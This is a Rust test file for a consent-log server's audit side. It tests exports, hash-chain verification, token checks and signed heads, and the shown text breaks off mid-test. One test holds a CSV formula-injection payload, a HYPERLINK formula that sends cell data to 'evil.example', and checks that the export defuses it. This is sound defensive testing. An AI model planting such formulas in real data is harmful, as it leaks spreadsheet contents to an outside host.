//! The auditor's side: tokens, the streamed export, history, and offline
//! verification of the hash chain.

use std::io::Cursor;

use crumb_server::clock::Clock as _;
use crumb_server::settings::Settings;
use crumb_server::startup::Application;
use crumb_server::storage::{Role, Store as _};
use crumb_server::verify::{VerifyError, verify_ndjson};
use serde_json::{Value, json};

use crate::helpers::{TestApp, database_in, postgres_admin, spawn_app, spawn_app_in};

const EXPORT: &str = "/v1/audit/sites/demo/consents";

fn export(app: &TestApp, query: &str) -> String {
    let token = app.token(Role::Auditor, Some("demo"));
    let resp = app.get_with_token(&format!("{EXPORT}{query}"), &token);
    assert_eq!(resp.status, 200, "{}", resp.body);
    resp.body
}

/// The line the verifier says is broken.
fn broken_line(export: &str) -> u64 {
    match verify_ndjson(Cursor::new(export.as_bytes())) {
        Err(VerifyError::Broken(b)) => b.line,
        other => panic!("expected a broken record, got {other:?}"),
    }
}

#[test]
fn export_of_100k_records_equals_the_database() {
    // Arrange
    let app = spawn_app();
    app.seed(100_000, |i| format!("agent {i}"));

    // Act
    let body = export(&app, "?format=ndjson");

    // Assert: same count, same hashes in the same order, and it verifies.
    let exported: Vec<String> = body
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).unwrap()["hash"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    assert_eq!(exported.len(), 100_000);
    assert_eq!(exported, app.hashes());
    let summary = verify_ndjson(Cursor::new(body.as_bytes())).unwrap();
    assert_eq!(summary.records, 100_000);
    let demo = summary.sites.values().next().unwrap();
    assert_eq!(
        (demo.first_seq, demo.last_seq, demo.from_genesis),
        (1, 100_000, true)
    );
    assert_eq!(demo.head_hash.as_str(), exported.last().unwrap());
}

#[test]
fn any_flipped_byte_is_caught_at_its_line() {
    // Arrange
    let app = spawn_app();
    app.seed(40, |i| {
        format!("Mozilla/5.0 (agent {i}; \"quoted\", comma)")
    });
    let body = export(&app, "");
    verify_ndjson(Cursor::new(body.as_bytes())).unwrap();
    let lines: Vec<&str> = body.lines().collect();

    // Act and assert: flip bytes all along every line, the newline included.
    let mut offset = 0;
    for (i, line) in lines.iter().enumerate() {
        for pos in (0..=line.len()).step_by(7).chain([line.len()]) {
            let mut bytes = body.clone().into_bytes();
            bytes[offset + pos] ^= 0x01;
            let tampered = String::from_utf8_lossy(&bytes).into_owned();
            assert_eq!(
                broken_line(&tampered),
                i as u64 + 1,
                "line {} byte {pos}",
                i + 1
            );
        }
        offset += line.len() + 1;
    }
}

#[test]
fn deleted_or_reordered_lines_are_caught() {
    let app = spawn_app();
    app.seed(10, |i| format!("agent {i}"));
    let body = export(&app, "");
    let lines: Vec<&str> = body.lines().collect();
    let join = |v: Vec<&str>| v.join("\n") + "\n";

    let mut deleted = lines.clone();
    deleted.remove(4);
    assert_eq!(broken_line(&join(deleted)), 5);

    let mut swapped = lines.clone();
    swapped.swap(6, 7);
    assert_eq!(broken_line(&join(swapped)), 7);

    let mut duplicated = lines.clone();
    duplicated.insert(3, lines[2]);
    assert_eq!(broken_line(&join(duplicated)), 4);
}

#[test]
fn a_date_range_exports_a_verifiable_stretch() {
    // Arrange: records on three days.
    let app = spawn_app();
    for _ in 0..3 {
        app.seed(5, |i| format!("agent {i}"));
        app.clock.advance(time::Duration::days(1));
    }

    // Act: only the middle day (the clock started 2026-01-15 10:00).
    let body = export(&app, "?from=2026-01-16&to=2026-01-17");

    // Assert
    let summary = verify_ndjson(Cursor::new(body.as_bytes())).unwrap();
    let demo = summary.sites.values().next().unwrap();
    assert_eq!(
        (demo.first_seq, demo.last_seq, demo.from_genesis),
        (6, 10, false)
    );
}

#[test]
fn a_range_whose_edge_falls_between_records_out_of_time_order_still_verifies() {
    // Arrange: each record takes its time when its request arrives, and
    // requests reach the chain in the order they are queued, so under
    // load a record can follow one a millisecond younger (several nodes'
    // clocks add to that). Here seq 3 is a millisecond older than seq 2.
    let app = spawn_app();
    let ms = time::Duration::milliseconds(1);
    for step in [0, 2, -1, 2] {
        app.clock.advance(ms * step);
        let resp = app.record_consent(&app.analytics_only());
        assert_eq!(resp.status, 201, "{}", resp.body);
    }
    // 10:00:00.000, .002, .001, .003
    let times: Vec<String> = app
        .records()
        .iter()
        .map(|(r, _)| r["event_time"].as_str().unwrap().to_owned())
        .collect();
    assert!(times[2] < times[1], "{times:?}");
    let at = |i: usize| times[i].clone();

    // Act: ranges whose edges fall between seq 2 and seq 3.
    let before_two = export(&app, &format!("?to={}", at(1)));
    let from_two = export(&app, &format!("?from={}", at(1)));
    let between = export(&app, &format!("?from={}&to={}", at(2), at(1)));

    // Assert: each is one stretch of the chain that verifies, holding every
    // record in its range.
    for (body, (first, last)) in [(before_two, (1, 3)), (from_two, (2, 4)), (between, (3, 3))] {
        let summary = verify_ndjson(Cursor::new(body.as_bytes())).unwrap();
        let demo = summary.sites.values().next().unwrap();
        assert_eq!((demo.first_seq, demo.last_seq), (first, last), "{body}");
    }
}

#[test]
fn csv_export_escapes_commas_quotes_and_newlines() {
    // Arrange
    let app = spawn_app();
    let nasty = "Agent, with \"quotes\"\nand a newline";
    app.seed(3, |_| nasty.to_owned());

    // Act
    let body = export(&app, "?format=csv");

    // Assert: a CSV reader gets every field back intact.
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let headers = reader.headers().unwrap().clone();
    assert_eq!(headers.len(), 21);
    let ua = headers.iter().position(|h| h == "user_agent").unwrap();
    let hash = headers.iter().position(|h| h == "hash").unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3);
    for (row, expected) in rows.iter().zip(app.hashes()) {
        assert_eq!(&row[ua], nasty);
        assert_eq!(row[hash], expected);
    }
}

#[test]
fn csv_export_never_hands_a_spreadsheet_a_formula() {
    // Arrange: a hostile client chose its user agent to be a formula.
    let app = spawn_app();
    let formula = r#"=HYPERLINK("https://evil.example/?"&A1,"open")"#;
    app.seed(1, |_| formula.to_owned());

    // Act
    let csv_body = export(&app, "?format=csv");
    let ndjson_body = export(&app, "");

    // Assert: the CSV cell is text (a leading '); the NDJSON, which
    // `crumb verify` checks, keeps the stored bytes, and verifies.
    let mut reader = csv::Reader::from_reader(csv_body.as_bytes());
    let ua = column(&mut reader, "user_agent");
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[ua], format!("'{formula}"));
    let line: Value = serde_json::from_str(ndjson_body.lines().next().unwrap()).unwrap();
    assert_eq!(line["user_agent"], formula);
    assert!(verify_ndjson(Cursor::new(ndjson_body.as_bytes())).is_ok());
}

#[test]
fn history_lists_every_event_of_a_consent() {
    // Arrange: given, updated, withdrawn.
    let app = spawn_app();
    let id = app.given_consent();
    let mut update = app.analytics_only();
    update["consent_id"] = json!(id);
    update["categories"] = json!({"analytics": false});
    app.record_consent(&update);
    app.withdraw(&id);
    let token = app.token(Role::Auditor, None);

    // Act
    let resp = app.get_with_token(&format!("{EXPORT}/{id}"), &token);

    // Assert
    assert_eq!(resp.status, 200, "{}", resp.body);
    let history = resp.json();
    let events: Vec<&str> = history["records"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["event"].as_str().unwrap())
        .collect();
    assert_eq!(events, ["given", "updated", "withdrawn"]);
    assert_eq!(history["records"][0]["hash"].as_str().unwrap().len(), 64);
    let unknown = app.get_with_token(
        &format!("{EXPORT}/00000000-0000-4000-8000-000000000000"),
        &token,
    );
    assert_eq!(unknown.status, 404);
}

#[test]
fn the_texts_a_record_names_stay_readable_after_the_owner_changes_them() {
    // Arrange: a consent given under the banner's texts as they were; the
    // owner rewrites the title through the admin API; a consent given
    // under the new texts.
    let app = spawn_app();
    let first = app.given_consent();
    let owner = app.token(Role::Owner, Some("demo"));
    let mut config = serde_json::to_value(app.site()).unwrap();
    let old_title = config["texts"]["en"]["title"].as_str().unwrap().to_owned();
    config["texts"]["en"]["title"] = json!("Cookies, honestly");
    let put = app.request(
        "PUT",
        "/v1/admin/sites/demo",
        &[
            ("Authorization", &format!("Bearer {owner}")),
            ("Content-Type", "application/json"),
        ],
        Some(&config.to_string()),
    );
    assert_eq!(put.status, 200, "{}", put.body);
    let second = app.given_consent();
    let auditor = app.token(Role::Auditor, Some("demo"));
    let shown = |id: &str| -> String {
        let history = app
            .get_with_token(&format!("{EXPORT}/{id}"), &auditor)
            .json();
        history["records"][0]["text_hash"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let (old_hash, new_hash) = (shown(&first), shown(&second));
    assert_ne!(old_hash, new_hash);

    // Act
    let texts =
        |hash: &str| app.get_with_token(&format!("/v1/audit/sites/demo/texts/{hash}"), &auditor);
    let (old, new) = (texts(&old_hash), texts(&new_hash));

    // Assert: each record's hash names texts the log still has, as the
    // bytes that were hashed, the first ones with the old title.
    for (resp, hash, title) in [
        (&old, &old_hash, old_title.as_str()),
        (&new, &new_hash, "Cookies, honestly"),
    ] {
        assert_eq!(resp.status, 200, "{}", resp.body);
        assert_eq!(
            &crumb_server::record::sha256_hex(resp.body.as_bytes()),
            hash
        );
        assert_eq!(resp.header("content-language"), Some("en"));
        assert_eq!(resp.json()[0]["title"], title, "{}", resp.body);
    }
    // Texts the log never held, a hash cut short, and another site's
    // auditor: clear answers.
    let unknown = texts(&"0".repeat(64));
    assert_eq!(unknown.status, 404);
    assert_eq!(unknown.error_code(), "unknown_texts");
    assert_eq!(texts(&old_hash[..16]).status, 400);
    let other = app.token(Role::Auditor, Some("other"));
    let refused = app.get_with_token(&format!("/v1/audit/sites/demo/texts/{old_hash}"), &other);
    assert_eq!(refused.status, 403);
}

#[test]
fn an_export_and_its_texts_verify_offline_together() {
    // Arrange: consents under two versions of the English texts; the
    // auditor downloads the log and the site's texts.
    let app = spawn_app();
    app.given_consent();
    let mut site = app.site();
    let en = crumb_schema::LanguageTag::parse("en").unwrap();
    site.texts.get_mut(&en).unwrap().title = "Cookies, honestly".into();
    app.put_site(&site);
    app.given_consent();
    // Another site's texts are its own.
    let mut shop = app.site();
    shop.id = crumb_schema::SiteId::parse("shop").unwrap();
    app.put_site(&shop);
    let auditor = app.token(Role::Auditor, Some("demo"));
    let texts = app.get_with_token("/v1/audit/sites/demo/texts", &auditor);
    assert_eq!(texts.status, 200, "{}", texts.body);
    assert_eq!(texts.header("content-type"), Some("application/x-ndjson"));
    let lines: Vec<Value> = texts
        .body
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(
        lines.len(),
        app.site().languages.len() + 1,
        "{}",
        texts.body
    );
    assert!(
        lines.iter().all(|l| l["site_id"] == "demo"),
        "{}",
        texts.body
    );
    let dir = app.dir.path();
    let (log, texts_file) = (dir.join("log.ndjson"), dir.join("texts.ndjson"));
    std::fs::write(&log, export(&app, "")).unwrap();
    let verify = |texts: &str| {
        std::fs::write(&texts_file, texts).unwrap();
        app.crumb(&[
            "verify",
            log.to_str().unwrap(),
            "--texts",
            texts_file.to_str().unwrap(),
        ])
    };

    // Act
    let out = verify(&texts.body);

    // Assert: both versions the records name are there and hash to their
    // names...
    assert!(
        succeeded(&out).contains("texts verified: the 2 version(s)"),
        "{}",
        stdout(&out)
    );
    // ...texts edited after the fact are caught...
    let altered = texts
        .body
        .replacen("Cookies, honestly", "Cookies, dishonestly", 1);
    let out = verify(&altered);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stdout(&out).contains("they were altered"),
        "{}",
        stdout(&out)
    );
    // ...and so are texts left out.
    let shown_last = app.text_hash("en");
    let without: String = texts
        .body
        .lines()
        .filter(|l| !l.contains(&shown_last))
        .map(|l| format!("{l}\n"))
        .collect();
    let out = verify(&without);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stdout(&out).contains(&format!("name texts {shown_last}, which are not among")),
        "{}",
        stdout(&out)
    );
    // `crumb export --texts` writes what the API lists.
    let out = app.crumb(&["export", "--site", "demo", "--texts"]);
    assert_eq!(succeeded(&out), texts.body);
    // What is no texts file (a download that failed, an error answer)
    // is an error in what was given, not a broken log.
    for (given, says) in [
        ("", "holds no texts (did the download fail?)"),
        (
            "{\"error\":\"unauthorized\",\"message\":\"send a Crumb bearer token\"}\n",
            "line 1 of the texts is not a version of a site's texts",
        ),
    ] {
        let out = verify(given);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{err}");
        assert!(err.contains(says), "{err}");
    }
    // The log itself keeps every version its records name.
    let out = app.crumb(&["verify", "--db"]);
    assert!(
        succeeded(&out).contains("texts: the log keeps all 2 version(s)"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn history_says_where_the_consent_stands_now() {
    // Arrange: one consent kept as given, one withdrawn.
    let app = spawn_app();
    let (kept, ended) = (app.given_consent(), app.given_consent());
    app.withdraw(&ended);
    let token = app.token(Role::Auditor, None);
    let state = |id: &str| {
        let resp = app.get_with_token(&format!("{EXPORT}/{id}"), &token);
        assert_eq!(resp.status, 200, "{}", resp.body);
        resp.json()["state"].as_str().unwrap().to_owned()
    };

    // Act and assert: now, after a revision bump, and two years on (the
    // log holds no `expired` record; the answer says it all the same).
    assert_eq!(state(&kept), "valid");
    assert_eq!(state(&ended), "withdrawn");
    app.bump_revision();
    assert_eq!(state(&kept), "outdated_revision");
    app.clock.advance(time::Duration::days(731));
    assert_eq!(state(&kept), "expired");
    assert_eq!(state(&ended), "withdrawn");
}

#[test]
fn a_deleted_sites_log_stays_exportable_checkable_countable_and_purgeable() {
    // Arrange: a consent on demo, then the owner deletes the site's config
    // (its log stays, as the README promises).
    let app = spawn_app();
    let id = app.given_consent();
    let owner = app.token(Role::Owner, None);
    let auth = format!("Bearer {owner}");
    let deleted = app.request(
        "DELETE",
        "/v1/admin/sites/demo",
        &[("Authorization", auth.as_str())],
        Some(""),
    );
    assert!(deleted.status < 300, "{}", deleted.body);
    // An auditor token for the deleted site's log, made after the deletion.
    let made = app.crumb(&["token", "create", "--role", "auditor", "--site", "demo"]);
    let token = succeeded(&made).trim().to_owned();

    // Act: the auditor's three reads, and the operator's commands.
    let exported = app.get_with_token(EXPORT, &token);
    let head = app.get_with_token("/v1/audit/sites/demo/head", &token);
    let history = app.get_with_token(&format!("{EXPORT}/{id}"), &token);
    let stats = app.get_with_token("/v1/admin/sites/demo/stats", &token);
    let cli_export = app.crumb(&["export", "--site", "demo"]);
    let cli_head = app.crumb(&["head", "--site", "demo"]);
    let cli_purge = app.crumb(&["purge", "--site", "demo", "--before", "2020-01-01"]);
    let unknown = app.get_with_token("/v1/audit/sites/nope/head", &app.token(Role::Auditor, None));
    let cli_unknown = app.crumb(&["export", "--site", "nope"]);
    let listed = app.crumb(&["site", "list"]);

    // Assert: the log is read as before; the visitor's API no longer knows
    // the site, and a name with neither config nor log is still unknown.
    assert_eq!(exported.status, 200, "{}", exported.body);
    assert_eq!(
        verify_ndjson(Cursor::new(exported.body.as_bytes()))
            .unwrap()
            .records,
        1
    );
    assert_eq!(head.status, 200, "{}", head.body);
    assert_eq!(head.json()["seq"], 1);
    assert_eq!(history.status, 200, "{}", history.body);
    assert_eq!(history.json()["records"][0]["event"], "given");
    assert_eq!(history.json()["state"], "valid");
    assert_eq!(stats.status, 200, "{}", stats.body);
    assert_eq!(stats.json()["days"][0]["decisions"], 1);
    assert_eq!(stdout(&cli_export), exported.body);
    let head_said = succeeded(&cli_head);
    assert!(head_said.contains("\"seq\": 1"), "{head_said}");
    let purge_said = succeeded(&cli_purge);
    assert!(purge_said.contains("nothing in site demo"), "{purge_said}");
    let listed = succeeded(&listed);
    assert!(
        listed.contains("demo  config deleted; its log stays"),
        "{listed}"
    );
    assert_eq!(app.lookup(&id).status, 404);
    assert_eq!(unknown.status, 404);
    assert_eq!(unknown.error_code(), "unknown_site");
    assert_eq!(cli_unknown.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&cli_unknown.stderr).contains("no site \"nope\""));
}

#[test]
fn audit_routes_refuse_bad_tokens() {
    // Arrange
    let app = spawn_app();
    let id = app.given_consent();
    let mut other = app.site();
    other.id = crumb_schema::SiteId::parse("other").unwrap();
    app.put_site(&other);
    let revoked = app.token(Role::Auditor, None);
    let revoked_id = revoked.split('_').nth(1).unwrap().to_owned();
    assert_eq!(
        app.crumb(&["token", "revoke", &revoked_id]).status.code(),
        Some(0)
    );
    let unknown = format!("crumb_{}_{}", "0".repeat(16), "0".repeat(64));
    let wrong_secret = {
        let t = app.token(Role::Auditor, None);
        format!(
            "{}{}",
            &t[..t.len() - 1],
            if t.ends_with('0') { "1" } else { "0" }
        )
    };
    let other_site = app.token(Role::Auditor, Some("other"));
    let other_owner = app.token(Role::Owner, Some("other"));
    let routes = [
        EXPORT.to_owned(),
        format!("{EXPORT}/{id}"),
        "/v1/audit/sites/demo/head".to_owned(),
    ];

    for route in &routes {
        // No token, or not a bearer token at all.
        let resp = app.get(route);
        assert_eq!(resp.status, 401, "{route} without a token");
        assert_eq!(resp.header("www-authenticate"), Some("Bearer"));
        for (case, header, status) in [
            ("malformed", "Bearer hunter2".to_owned(), 401),
            ("basic auth", "Basic dXNlcjpwYXNz".to_owned(), 401),
            ("unknown", format!("Bearer {unknown}"), 401),
            ("wrong secret", format!("Bearer {wrong_secret}"), 401),
            ("revoked", format!("Bearer {revoked}"), 401),
            (
                "auditor of another site",
                format!("Bearer {other_site}"),
                403,
            ),
            (
                "owner of another site",
                format!("Bearer {other_owner}"),
                403,
            ),
        ] {
            let resp = app.request("GET", route, &[("Authorization", &header)], None);
            assert_eq!(resp.status, status, "{route}, {case}: {}", resp.body);
            assert!(
                !resp.body.contains("\"seq\""),
                "{route}, {case}: no data leaks"
            );
        }
        // The right tokens get in.
        for token in [
            app.token(Role::Auditor, Some("demo")),
            app.token(Role::Owner, None),
        ] {
            assert_eq!(app.get_with_token(route, &token).status, 200, "{route}");
        }
    }
    assert_eq!(app.record_count(), 1, "nothing changed");
}

#[test]
fn bad_export_queries_are_refused() {
    let app = spawn_app();
    let token = app.token(Role::Auditor, None);
    for query in [
        "?format=xml",
        "?from=yesterday",
        "?from=2026-02-01&to=2026-01-01",
        "?colour=red",
    ] {
        let resp = app.get_with_token(&format!("{EXPORT}{query}"), &token);
        assert_eq!(resp.status, 400, "{query}: {}", resp.body);
        assert_eq!(resp.error_code(), "invalid_query", "{query}");
    }
    let resp = app.get_with_token("/v1/audit/sites/nope/consents", &token);
    assert_eq!(resp.status, 404);
    // The format's name in any letter case.
    let resp = app.get_with_token(&format!("{EXPORT}?format=CSV"), &token);
    assert_eq!(resp.status, 200, "{}", resp.body);
    assert!(resp.header("content-type").unwrap().starts_with("text/csv"));
    // Blank fields, as a form sends them: the defaults (NDJSON, open ends).
    let resp = app.get_with_token(&format!("{EXPORT}?from=&to=&format="), &token);
    assert_eq!(resp.status, 200, "{}", resp.body);
    assert!(
        resp.header("content-type")
            .unwrap()
            .starts_with("application/x-ndjson")
    );
}

#[test]
fn an_export_piped_into_verify_dash_is_checked() {
    // Arrange: an export over the API, as an auditor downloads it.
    let app = spawn_app();
    app.seed(5, |i| format!("agent {i}"));
    let token = app.token(Role::Auditor, Some("demo"));
    let export = app.get_with_token("/v1/audit/sites/demo/consents", &token);
    assert_eq!(export.status, 200);
    let verify = |input: &str| verify_piped(input.as_bytes());
    // What `curl -s` writes when the download fails: nothing (no
    // connection; `-f` on a 401), or the API's error answer.
    let refused = app.get_with_token("/v1/audit/sites/demo/consents", "crumb_0_0");
    assert_eq!(refused.status, 401);

    // Act
    let intact = verify(&export.body);
    let altered = verify(&export.body.replacen("agent 1", "agent X", 1));
    let nothing = verify("");
    let error_answer = verify(&refused.body);

    // Assert
    assert_eq!(intact.status.code(), Some(0));
    assert!(stdout(&intact).starts_with("OK: 5 records verified"));
    assert_eq!(altered.status.code(), Some(1));
    assert!(stdout(&altered).contains("hash mismatch"));
    // A failed download is never "OK", nor a "BROKEN" (tampered) log.
    for (out, says) in [
        (nothing, "holds no records: nothing was verified"),
        (error_answer, "is an error answer of the API, not an export"),
    ] {
        let said = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{said}");
        assert!(said.contains(says), "{said}");
        assert!(stdout(&out).is_empty(), "{}", stdout(&out));
    }
}

/// `crumb verify -` with `input` on its standard input.
fn verify_piped(input: &[u8]) -> std::process::Output {
    crate::helpers::crumb_piped(&["verify", "-"], input)
}

#[test]
fn an_export_that_tools_handled_is_never_called_tampered() {
    // Arrange: what an auditor downloads, and the forms it takes on the way
    // to `crumb verify`.
    let app = spawn_app();
    let body = app.analytics_only().to_string();
    for i in 0..5 {
        let ua = format!("agent {i}");
        let headers = [("Content-Type", "application/json"), ("User-Agent", &ua)];
        let resp = app.request("POST", "/v1/sites/demo/consents", &headers, Some(&body));
        assert_eq!(resp.status, 201, "{}", resp.body);
    }
    let token = app.token(Role::Auditor, Some("demo"));
    let get = |path: &str| {
        let resp = app.get_with_token(path, &token);
        assert_eq!(resp.status, 200, "{}", resp.body);
        resp.body
    };
    let export = get(EXPORT);
    let csv = get(&format!("{EXPORT}?format=csv"));
    let texts = get("/v1/audit/sites/demo/texts");
    let head = get("/v1/audit/sites/demo/head");
    let crlf = export.replace('\n', "\r\n");
    let gzip = |bytes: &[u8]| {
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        std::io::Write::write_all(&mut gz, bytes).unwrap();
        gz.finish().unwrap()
    };
    // Windows PowerShell 5's `>` writes UTF-16 with a byte order mark.
    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(export.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let laid_out: String = export
        .lines()
        .map(|l| serde_json::to_string_pretty(&serde_json::from_str::<Value>(l).unwrap()).unwrap())
        .collect::<Vec<_>>()
        .join("\n");
    let cut_off = &export[..export.len() - 100];

    // Act and assert: the records as written, whatever the tools put
    // around them (line endings, a byte order mark, blank lines, a missing
    // last newline, gzip), verify.
    for (form, input) in [
        ("CRLF line endings", crlf.clone().into_bytes()),
        (
            "a byte order mark",
            format!("\u{feff}{export}").into_bytes(),
        ),
        (
            "blank lines",
            format!("\n{}\n\n", export.replacen('\n', "\n\n", 2)).into_bytes(),
        ),
        ("no last newline", export.trim_end().as_bytes().to_vec()),
        ("gzip", gzip(export.as_bytes())),
    ] {
        let out = verify_piped(&input);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(0), "{form}: {err}");
        assert!(stdout(&out).starts_with("OK: 5 records verified"), "{form}");
    }
    // A record changed is still caught, in any of those forms, at its line.
    for altered in [
        crlf.replacen("agent 3", "agent X", 1).into_bytes(),
        gzip(export.replacen("agent 3", "agent X", 1).as_bytes()),
    ] {
        let out = verify_piped(&altered);
        assert_eq!(out.status.code(), Some(1));
        assert!(
            stdout(&out).starts_with("BROKEN: record 4 (seq 4): hash mismatch"),
            "{}",
            stdout(&out)
        );
    }
    // The texts kept with it, in those forms, are read as they are.
    let dir = app.dir.path();
    let export_file = dir.join("log.ndjson");
    std::fs::write(&export_file, &export).unwrap();
    for (form, input) in [
        (
            "CRLF line endings",
            texts.replace('\n', "\r\n").into_bytes(),
        ),
        ("a byte order mark", format!("\u{feff}{texts}").into_bytes()),
        ("gzip", gzip(texts.as_bytes())),
    ] {
        let texts_file = dir.join("texts.ndjson");
        std::fs::write(&texts_file, input).unwrap();
        let out = app.crumb(&[
            "verify",
            export_file.to_str().unwrap(),
            "--texts",
            texts_file.to_str().unwrap(),
        ]);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(
            out.status.code(),
            Some(0),
            "texts with {form}: {err}{}",
            stdout(&out)
        );
        assert!(stdout(&out).starts_with("texts verified"), "{form}");
    }
    // What is not an export, or not all of one, is an error in what was
    // given (exit 2, said on stderr), never BROKEN.
    for (what, input, says) in [
        ("the CSV export", csv.into_bytes(), "is a CSV export"),
        ("UTF-16", utf16, "is UTF-16 text"),
        (
            "a proxy's page",
            b"<html><body>502 Bad Gateway".to_vec(),
            "is an HTML page",
        ),
        ("jq's layout", laid_out.into_bytes(), "JSON laid out anew"),
        ("the texts", texts.into_bytes(), "is the site's texts"),
        ("the head", head.into_bytes(), "is a signed head"),
        (
            "a cut download",
            cut_off.as_bytes().to_vec(),
            "line 5 ends the file in the middle of a record",
        ),
    ] {
        let out = verify_piped(&input);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{what}: {err}");
        assert!(err.contains(says), "{what}: {err}");
        assert!(stdout(&out).is_empty(), "{what}: {}", stdout(&out));
    }
}

#[test]
fn cli_exports_and_verifies_and_names_the_broken_record() {
    // Arrange
    let app = spawn_app();
    app.seed(20, |i| format!("agent {i}"));
    let file = app.dir.path().join("log.ndjson");
    let file = file.to_str().unwrap();

    // Act and assert: export, verify.
    let out = app.crumb(&["export", "--site", "demo", "--format", "ndjson", "-o", file]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = app.crumb(&["verify", file]);
    assert_eq!(out.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&out.stdout).starts_with("OK: 20 records verified"));
    app.assert_log_verifies();

    // Tamper with record 3: the consent is turned from accept-all into
    // reject-all, as someone rewriting history would.
    let text = std::fs::read_to_string(file).unwrap();
    let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
    lines[2] = lines[2].replace("\"method\":\"accept_all\"", "\"method\":\"reject_all\"");
    std::fs::write(file, lines.join("\n") + "\n").unwrap();
    let out = app.crumb(&["verify", file]);
    assert_eq!(out.status.code(), Some(1));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("record 3 (seq 3): hash mismatch"),
        "{stdout}"
    );

    // Usage errors are plain messages with exit code 2.
    let out = app.crumb(&["export", "--site", "nope"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no site \"nope\""));
}

#[test]
fn verify_db_given_a_database_checks_that_one_and_makes_none() {
    // Arrange: a log of two consents, and `crumb` run where no database is
    // configured, as by an auditor handed a copy of the log.
    let app = spawn_app();
    app.given_consent();
    app.given_consent();
    let elsewhere = tempfile::TempDir::new().unwrap();
    let crumb = |args: &[&str]| {
        std::process::Command::new(env!("CARGO_BIN_EXE_crumb"))
            .args(args)
            .current_dir(elsewhere.path())
            .env_remove("CRUMB_DATABASE")
            .env_remove("CRUMB_SIGNING_KEY")
            .env("CRUMB_LOG", "warn")
            .output()
            .unwrap()
    };
    let missing = elsewhere.path().join("missing.db");

    // Act
    let database = app.database().to_setting();
    let given = crumb(&["verify", "--db", database.to_str().unwrap()]);
    let not_there = crumb(&["verify", "--db", missing.to_str().unwrap()]);
    let configured = crumb(&["verify", "--db"]);

    // Assert: the log given verifies; a file that is not there is named,
    // and neither it nor the default database is made.
    assert!(
        succeeded(&given).starts_with("OK: 2 records verified"),
        "{}",
        stdout(&given)
    );
    for out in [&not_there, &configured] {
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{err}");
        assert!(
            err.starts_with("error: no Crumb log in SQLite file"),
            "{err}"
        );
    }
    assert!(String::from_utf8_lossy(&not_there.stderr).contains("missing.db"));
    assert_eq!(std::fs::read_dir(elsewhere.path()).unwrap().count(), 0);
}

/// The index of the CSV column named `name`.
fn column(reader: &mut csv::Reader<&[u8]>, name: &str) -> usize {
    let headers = reader.headers().unwrap();
    headers.iter().position(|h| h == name).unwrap()
}

/// Moves the server's clock from 2026-01-15 to 2023-01-15 10:00: records
/// written then have expired by the real clock that `crumb purge` reads,
/// so they may be purged.
fn back_to_2023(app: &TestApp) {
    app.clock.advance(-time::Duration::days(1096));
}

/// `crumb purge` succeeded and purged `n` records.
fn assert_purged(out: &std::process::Output, n: u64) {
    let said = succeeded(out);
    assert!(said.contains(&format!("purged {n} records")), "{said}");
}

fn stdout(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// What a `crumb` command that must have succeeded printed.
fn succeeded(out: &std::process::Output) -> String {
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{err}");
    stdout(out)
}

#[test]
fn signed_head_proves_an_export_is_complete() {
    // Arrange: an export and the signed head, fetched together.
    let app = spawn_app();
    app.seed(12, |i| format!("agent {i}"));
    let token = app.token(Role::Auditor, Some("demo"));
    let head = app.get_with_token("/v1/audit/sites/demo/head", &token);
    assert_eq!(head.status, 200, "{}", head.body);
    assert_eq!(head.json()["seq"], 12);
    let body = app.get_with_token(EXPORT, &token).body;
    let dir = app.dir.path();
    let (file, head_file) = (dir.join("log.ndjson"), dir.join("head.json"));
    std::fs::write(&file, &body).unwrap();
    std::fs::write(&head_file, &head.body).unwrap();
    let public_key = stdout(&app.crumb(&["key"])).trim().to_owned();
    assert_eq!(head.json()["public_key"], public_key.as_str());
    let (file, head_file) = (file.to_str().unwrap(), head_file.to_str().unwrap());
    let verify = |key: &str| app.crumb(&["verify", file, "--head", head_file, "--public-key", key]);

    // Act and assert: complete export, right key.
    let out = verify(&public_key);
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    assert!(stdout(&out).contains("signed head verified: site demo seq 12"));

    // The last record cut off: still a valid chain, but not up to the head.
    let shorter: String = body.lines().take(11).map(|l| format!("{l}\n")).collect();
    std::fs::write(file, shorter).unwrap();
    let out = verify(&public_key);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stdout(&out).contains("records are missing at the end"),
        "{}",
        stdout(&out)
    );

    // Another key, or a forged head, is refused.
    std::fs::write(file, &body).unwrap();
    assert_eq!(verify(&"ab".repeat(32)).status.code(), Some(1));
    let forged = head.body.replace("\"seq\":12", "\"seq\":11");
    std::fs::write(head_file, forged).unwrap();
    let out = verify(&public_key);
